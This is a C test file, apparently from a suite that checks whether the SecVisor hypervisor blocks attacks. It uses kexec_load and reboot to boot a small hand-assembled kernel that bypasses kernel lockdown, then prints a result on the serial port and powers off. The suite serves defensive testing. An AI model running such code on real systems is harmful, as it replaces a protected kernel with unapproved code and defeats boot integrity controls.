// Row 17. Another kernel, a few instructions long, started by kexec: kexec_load and reboot.
// Source: kexec as a way around lockdown (Garrett 2013).
// Ends: natively succeeded; beneath SecVisor refused, unapproved-code. Linux has no tables left to take the refusal by: a triple fault, the machine is reset.
#include "common/attack.h"
#include <errno.h>
#include <linux/kexec.h>
#include <string.h>
#include <sys/reboot.h>
#include <sys/syscall.h>
#include <unistd.h>

#define COMMAND_KEXEC 0x45584543
#define PLACE 0x10000000ull

ATTACK("kexec")
{
	// Says the text behind it on COM1, then switches the machine off.
	static const u8 code[] = {
		0x48, 0x8d, 0x35, 0x29, 0, 0, 0, // lea rsi, [rip + 0x29]: the text
		0x66, 0xba, 0xfd, 0x03, // 7: mov dx, 3fdh
		0xec, // b: in al, dx
		0xa8, 0x20, // test al, 20h
		0x74, 0xfb, // jz b
		0xac, // 10: lodsb
		0x84, 0xc0, // test al, al
		0x74, 0x07, // jz 1c
		0x66, 0xba, 0xf8, 0x03, // mov dx, 3f8h
		0xee, // out dx, al
		0xeb, 0xeb, // jmp 7
		0x66, 0xba, 0x04, 0x06, // 1c: mov dx, 604h, PM1 control
		0x66, 0xb8, 0x00, 0x20, // mov ax, 2000h: S5
		0x66, 0xef, // out dx, ax
		0xf4, // hlt
		0xeb, 0xfd, // jmp hlt
	};
	static const char text[] = "\r\nattack: name=kexec result=succeeded detail=another kernel runs\r\n";
	static u8 image[PAGE] __attribute__((aligned(4096)));
	struct kexec_segment segment = { image, sizeof(image), (void *)PLACE, PAGE };

	memcpy(image, code, sizeof(code));
	memcpy(image + 0x30, text, sizeof(text));
	if (syscall(SYS_kexec_load, PLACE, 1, &segment, KEXEC_ARCH_X86_64))
		refused("no kernel is loaded: %s", strerror(errno));
	about_to("start another kernel");
	if (syscall(SYS_reboot, 0xfee1dead, 672274793, COMMAND_KEXEC, NULL))
		refused("it is not started: %s", strerror(errno));
	failed("it was not started");
}
